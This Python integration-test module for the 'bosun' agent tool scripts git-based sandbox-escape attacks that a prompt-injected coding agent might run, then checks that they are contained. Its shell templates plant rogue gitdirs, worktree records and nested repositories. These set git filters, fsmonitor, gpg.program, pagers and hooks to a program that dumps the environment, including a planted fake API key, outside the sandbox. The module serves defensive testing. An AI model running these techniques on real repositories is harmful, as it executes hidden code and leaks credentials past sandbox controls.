"""The git breaks of issue 12 as scripted attacks, and a driver that plays them.

Each attack is what a prompt-injected agent would do: a shell command run through the
real tool layer (`run_command`, in the sandbox mode under test) that plants a gitdir,
a config or a nested repository, then the agents' git tools, then the engine's own
commit after the attempt and, for a retry, its reset + clean. The program the attack
plants writes a marker with its environment into `outside/`: a marker there means it
ran with authority the sandbox does not give (or, in `none` mode, with the daemon's
environment: a planted fake API key in the dump).

Run as `python -m tests.integration.security.git_attacks <mode> <base> <scenario>...`
(possibly as another user); it prints one JSON object per scenario.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import secrets
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from bosun.agents.api import AttemptReport, AttemptRequest
from bosun.agents.report import changed_files, worktree_diff
from bosun.board.store import Store
from bosun.engine.gitplane import ServiceGitPlane
from bosun.git.service import GitService
from bosun.git.settings import GitSettings
from bosun.tools import Policy, ToolContext, ToolExecutor, build_registry
from bosun.tools.context import SubtaskSpec
from bosun.tools.errors import SandboxUnavailableError
from bosun.tools.sandbox import Sandbox
from bosun.tools.settings import SandboxMode, ToolSettings
from bosun.workspace import Workspace
from bosun_protocol.entities import AttemptOutcome, Profile, RunState

from tests.unit.engine.scripted import EngineFactory, ScriptedRunner, finish, plan, wait_for

PLANTED_KEY = "sk-planted-" + "f4k3" * 8
SSH_SECRET = "-----BEGIN FAKE PRIVATE KEY----- planted-by-the-test"

# The program every attack plants: it proves where it ran and with what environment.
EVIL = """#!/bin/sh
{{ echo "ran=$0 $*"; env; }} > "{outside}/pwned-{name}-$$" 2>/dev/null
cat
exit 0
"""

# An evil gitdir of the worktree's own, pointing at the real object store, with the
# worktree's index read into it (so git sees tracked, modified files), and `.git`
# rewritten to use it. `{knobs}` sets its config.
_EVIL_GITDIR = """set -e
head=$(git rev-parse HEAD)
branch=$(sed "s/^ref: //" "$(git rev-parse --git-dir)/HEAD")
git init -q --bare .evil
git config -f .evil/config core.bare false
common=$(git rev-parse --git-common-dir)
# The real object store itself: what the daemon's git writes there is in the repository.
rm -rf .evil/objects && ln -s "$(cd "$common" && pwd)/objects" .evil/objects
mkdir -p ".evil/$(dirname "$branch")"
echo "$head" > ".evil/$branch"
echo "ref: $branch" > .evil/HEAD
GIT_DIR=.evil GIT_WORK_TREE=. git read-tree "$head"
cat > .evil/run.sh <<'EOF'
{evil}EOF
chmod +x .evil/run.sh
{knobs}
echo changed >> README.md
echo "* filter=x diff=x merge=x" > .gitattributes
printf 'gitdir: .evil\\n' > .git && echo REWROTE
"""

_NESTED = """set -e
git init -q sub
cd sub
echo one > f.txt
git add f.txt
git -c user.name=a -c user.email=a@b.invalid commit -q -m sub
cat > run.sh <<'EOF'
{evil}EOF
chmod +x run.sh
git config filter.x.clean "$PWD/run.sh"
git config filter.x.process "$PWD/run.sh"
git config core.fsmonitor "$PWD/run.sh"
echo "* filter=x" > .gitattributes
echo two >> f.txt
cd ..
{gitlink}
echo NESTED
"""


# Attacks on the admin records (writable only where the sandbox leaves the repository's
# git dir writable) and on the worktree directory itself. `$evil` is the planted program.
_RECORDS = """set -e
adm=$(git rev-parse --git-dir)
common=$(cd "$(git rev-parse --git-common-dir)" && pwd)
mkdir -p .evil
cat > .evil/run.sh <<'EOF'
{evil}EOF
chmod +x .evil/run.sh
evil=$PWD/.evil/run.sh
echo changed >> README.md
echo "* filter=x" > .gitattributes
{body}
"""

_RECORD_BODIES = {
    # An evil common dir (with its config) named by the admin dir's commondir record.
    "commondir_redirect": (
        "git init -q --bare .evil/common && git config -f .evil/common/config core.bare false\n"
        'git config -f .evil/common/config filter.x.clean "$evil"\n'
        'git config -f .evil/common/config core.fsmonitor "$evil"\n'
        'rm -rf .evil/common/objects && ln -s "$common/objects" .evil/common/objects\n'
        'rm -rf .evil/common/refs && ln -s "$common/refs" .evil/common/refs\n'
        'echo "$PWD/.evil/common" > "$adm/commondir" && echo REWROTE'
    ),
    # The admin record pointing elsewhere: git would no longer know this worktree.
    "admin_gitdir_redirect": 'echo "/nonexistent/.git" > "$adm/gitdir" && echo REWROTE',
    # A worktree config (read when the repository enables the extension) with programs.
    "worktree_config": (
        'git config -f "$adm/config.worktree" filter.x.clean "$evil"\n'
        'git config -f "$adm/config.worktree" core.fsmonitor "$evil"\n'
        'git config -f "$adm/config.worktree" core.worktree "$(dirname "$evil")"\n'
        'git config -f "$common/config" extensions.worktreeConfig true && echo REWROTE'
    ),
    # .git as a link (to the right place, even): not the plain file bosun wrote.
    "gitfile_link": 'rm .git && ln -s "$adm" .git && echo REWROTE',
    # The worktree directory itself swapped for a link to a directory outside.
    "worktree_swapped": (
        'wt=$PWD; cd .. && mv "$wt" "$wt.moved" && ln -s "{outside}/victims" "$wt" && echo REWROTE'
    ),
}


def _config(*pairs: tuple[str, str]) -> str:
    return "\n".join(f'git config -f .evil/config {k} "{v}"' for k, v in pairs)


@dataclass(frozen=True)
class Attack:
    """One scripted break: the command, and how the attempt ends."""

    name: str
    command: str
    fails_first: bool = False  # the first attempt errs, so a retry (with reset) follows


def attacks(outside: Path, home: Path) -> dict[str, Attack]:
    """Every attack, by name, writing markers into `outside`."""
    run = "$PWD/.evil/run.sh"

    def gitdir(
        name: str, *pairs: tuple[str, str], fails_first: bool = False, extra: str = ""
    ) -> Attack:
        evil = EVIL.format(outside=outside, name=name)
        command = _EVIL_GITDIR.format(evil=evil, knobs=_config(*pairs) + "\n" + extra)
        return Attack(name, command, fails_first)

    def nested(name: str, gitlink: str) -> Attack:
        evil = EVIL.format(outside=outside, name=name)
        return Attack(name, _NESTED.format(evil=evil, gitlink=gitlink))

    return {
        a.name: a
        for a in (
            gitdir("filter_clean", ("filter.x.clean", run), ("filter.x.required", "true")),
            gitdir("filter_process", ("filter.x.process", run)),
            gitdir(
                "smudge_on_reset",
                ("filter.x.smudge", run),
                ("filter.x.clean", run),
                fails_first=True,
            ),
            gitdir("gpg_sign", ("commit.gpgSign", "true"), ("gpg.program", run)),
            gitdir("fsmonitor", ("core.fsmonitor", run)),
            gitdir(
                "diff_programs",
                ("diff.external", run),
                ("diff.x.textconv", run),
                ("core.pager", run),
                ("log.showSignature", "true"),
                ("gpg.program", run),
            ),
            gitdir(
                "hooks",
                ("core.hooksPath", "$PWD/.evil/hooks"),
                extra="mkdir -p .evil/hooks; for h in pre-commit prepare-commit-msg post-commit "
                "post-checkout reference-transaction post-index-change; do "
                "cp .evil/run.sh .evil/hooks/$h; done",
            ),
            gitdir(
                "core_worktree_outside",
                ("core.worktree", str(outside / "victims")),
                fails_first=True,
            ),
            gitdir("core_worktree_home", ("core.worktree", str(home))),
            *(
                Attack(
                    name,
                    _RECORDS.format(
                        evil=EVIL.format(outside=outside, name=name),
                        body=body.format(outside=outside),
                    ),
                    fails_first=True,
                )
                for name, body in _RECORD_BODIES.items()
            ),
            nested("nested_gitlink_by_tool", gitlink=""),
            nested(
                "nested_gitlink_by_command",
                gitlink="git add sub && git -c user.name=a -c user.email=a@b.invalid "
                "commit -q -m link || true",
            ),
        )
    }


@dataclass
class Outcome:
    """What one attack achieved, as the test reads it."""

    scenario: str
    mode: str
    uid: int
    markers: list[dict[str, Any]] = field(default_factory=list)
    victims_intact: bool = True
    secret_in_objects: bool = False
    secret_in_results: bool = False
    command_output: str = ""
    tool_results: dict[str, str] = field(default_factory=dict)
    attempts: list[dict[str, Any]] = field(default_factory=list)
    events: list[str] = field(default_factory=list)
    rewrote_git_file: bool = False
    worktree_git_file: str | None = None
    error: str | None = None


def _repository(base: Path) -> tuple[Path, Path]:
    """A user's repository with one commit, and the `outside/` directory it must not reach."""
    repo, outside = base / "repo", base / "outside"
    for d in (repo, outside / "victims"):
        d.mkdir(parents=True, exist_ok=True)
    (outside / "victims" / "precious.txt").write_text("do not delete\n")

    def git(*args: str) -> None:
        subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True)

    git("init", "-q", "-b", "main")
    git("config", "user.email", "user@example.invalid")
    git("config", "user.name", "User")
    (repo / "README.md").write_text("# sample\n")
    git("add", "README.md")
    git("commit", "-q", "-m", "init")
    return repo, outside


class Play:
    """One attack against a fresh repository, board, git plane and engine."""

    def __init__(self, mode: str, base: Path, home: Path, name: str) -> None:
        self.repo, self.outside = _repository(base)
        self.base = base
        self.attack = attacks(self.outside, home)[name]
        self.outcome = Outcome(name, mode, os.getuid())
        self.settings = ToolSettings(sandbox=SandboxMode(mode), command_timeout_s=60)
        self.executor = ToolExecutor(
            build_registry(self.settings), Policy.from_settings(self.settings)
        )
        self.sandbox = Sandbox.detect(SandboxMode(mode), allow_weak=True)
        self.workspace = Workspace(self.repo)

    async def call(self, ctx: ToolContext, tool: str, **args: Any) -> str:
        result = await self.executor.call(ctx, tool, args)
        return result.content

    async def attempt(self, req: AttemptRequest) -> AttemptReport:
        """The attacker's attempt: the command, the git tools, the after-action report."""
        ctx = ToolContext(
            run_id=req.run.id,
            task_id=req.task.id,
            attempt=req.attempt,
            worktree_path=req.worktree,
            branch=req.branch,
            profile=Profile.CODER,
            settings=self.settings,
            sandbox=self.sandbox,
            hidden_paths=[self.workspace.state_dir],
        )
        out = self.outcome
        ran = await self.call(ctx, "run_command", command=self.attack.command)
        out.command_output = ran[-2000:]
        out.rewrote_git_file = "REWROTE" in ran
        for tool, args in (
            ("git_status", {}),
            ("git_diff", {}),
            ("git_log", {}),
            ("git_commit", {"message": "agent commit"}),
            ("git_status", {}),
        ):
            out.tool_results[f"{tool}#{len(out.tool_results)}"] = (
                await self.call(ctx, tool, **args)
            )[-1500:]
        # What the daemon runs after an attempt and for QA: the after-action report.
        await changed_files(req.worktree, req.task.base_commit)
        out.tool_results["qa_diff"] = (await worktree_diff(req.worktree, None))[-1500:]
        shown = await self.call(ctx, "run_command", command="git log --all -p | cat")
        out.secret_in_results = any(SSH_SECRET in t for t in [shown, *out.tool_results.values()])
        if self.attack.fails_first:
            return AttemptReport(outcome=AttemptOutcome.ERROR, error="the attack's attempt")
        return AttemptReport(outcome=AttemptOutcome.FINISHED, summary="attacked")

    async def run(self) -> Outcome:
        """Through the engine: the attempt, its commit, a retry with reset; then the proof."""
        store = await Store.open(self.base / "board.sqlite3", boot_id="attack")
        service = GitService(self.workspace, GitSettings(warm_pool=0), store)
        await service.start()
        factory = EngineFactory(store)
        runner = ScriptedRunner(
            steps={
                "director": [plan(SubtaskSpec(key="t", title="t", profile=Profile.CODER))],
                "t": [self.attempt, finish("second attempt")],
            }
        )
        try:
            harness = await factory(
                runner, ServiceGitPlane(service), worktree_between_attempts="reset", max_retries=2
            )
            run = await harness.run("attack")
            await wait_for(store, lambda: _settled(store, run.id), timeout=120)
            await self._record(store, service, run.id)
        except Exception as exc:  # the report must say what broke, not hang the test
            self.outcome.error = f"{type(exc).__name__}: {exc}"
        finally:
            await factory.stop_all()
            await service.close()
            await store.close()
        self._proof()
        return self.outcome

    async def _record(self, store: Store, service: GitService, run_id: int) -> None:
        task = await store.get_task_by_key(run_id, "t")
        self.outcome.attempts = [
            {"number": a.number, "outcome": a.outcome.value, "error": a.error, "summary": a.summary}
            for a in await store.list_attempts(task.id)
        ]
        events, _ = await store.events_since(0, limit=10_000)
        self.outcome.events = [e.kind for e in events if e.task_id == task.id]
        gitfile = service.worktrees.task_path(task.id) / ".git"
        self.outcome.worktree_git_file = gitfile.read_text() if gitfile.is_file() else None

    def _proof(self) -> None:
        for marker in sorted(self.outside.glob("pwned-*")):
            text = marker.read_text(errors="replace")
            self.outcome.markers.append({"name": marker.name, "has_key": PLANTED_KEY in text})
        self.outcome.victims_intact = (self.outside / "victims" / "precious.txt").exists()
        objects = subprocess.run(
            ["git", "cat-file", "--batch-all-objects", "--batch"],
            cwd=self.repo,
            capture_output=True,
            check=False,
        ).stdout
        self.outcome.secret_in_objects = SSH_SECRET.encode() in objects


async def _settled(store: Store, run_id: int) -> bool | None:
    """The run is over, or the attacked task has had its two attempts."""
    if (await store.get_run(run_id)).state in (RunState.COMPLETED, RunState.FAILED):
        return True
    task = next((t for t in await store.list_tasks(run_id) if t.key == "t"), None)
    if task is None:
        return None
    closed = [
        a for a in await store.list_attempts(task.id) if a.outcome is not AttemptOutcome.RUNNING
    ]
    return True if len(closed) >= 2 else None


async def play_all(mode: str, base: Path, names: list[str]) -> list[Outcome]:
    """Every named attack at once, each in a directory of its own under `base`."""
    home = base / "home"  # the daemon's HOME, with a key the sandbox hides
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_fake").write_text(SSH_SECRET + "\n")
    os.environ["HOME"] = str(home)
    os.environ["OPENAI_API_KEY"] = PLANTED_KEY  # what a leak through the daemon shows
    plays = []
    for name in names:
        where = base / f"{name}-{secrets.token_hex(4)}"
        where.mkdir()
        plays.append(Play(mode, where, home, name))
    return list(await asyncio.gather(*(p.run() for p in plays)))


def main(argv: list[str]) -> int:
    """`<mode> <base> <scenario>...`: one JSON line per scenario (or one `skip` line)."""
    mode, base, names = argv[0], Path(argv[1]), argv[2:]
    logging.basicConfig(level=logging.CRITICAL)
    try:
        Sandbox.detect(SandboxMode(mode), allow_weak=True)
    except SandboxUnavailableError as exc:
        print(json.dumps({"skip": f"{mode} cannot run here: {exc.message}"}), flush=True)
        return 0
    for outcome in asyncio.run(play_all(mode, base, names or list(attacks(base, base)))):
        print(json.dumps(outcome.__dict__), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
